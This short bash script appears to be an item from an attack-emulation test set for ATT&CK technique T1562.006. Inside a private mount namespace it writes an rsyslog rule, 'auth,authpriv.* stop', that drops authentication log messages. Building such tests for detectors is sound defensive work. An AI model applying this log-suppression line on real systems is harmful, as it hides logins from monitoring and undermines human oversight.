#!/usr/bin/env bash
# attack: T1562.006 Make the syslog daemon drop authentication messages (a drop-in written on a tmpfs over /etc, in a private mount namespace)
# set: unseen2
. "$(dirname "$0")/lib/common.sh"
unshare -m bash -c "mount --make-rprivate / && mount -t tmpfs none /etc && mkdir /etc/rsyslog.d &&
	echo 'auth,authpriv.* stop' >/etc/rsyslog.d/00-quiet.conf"
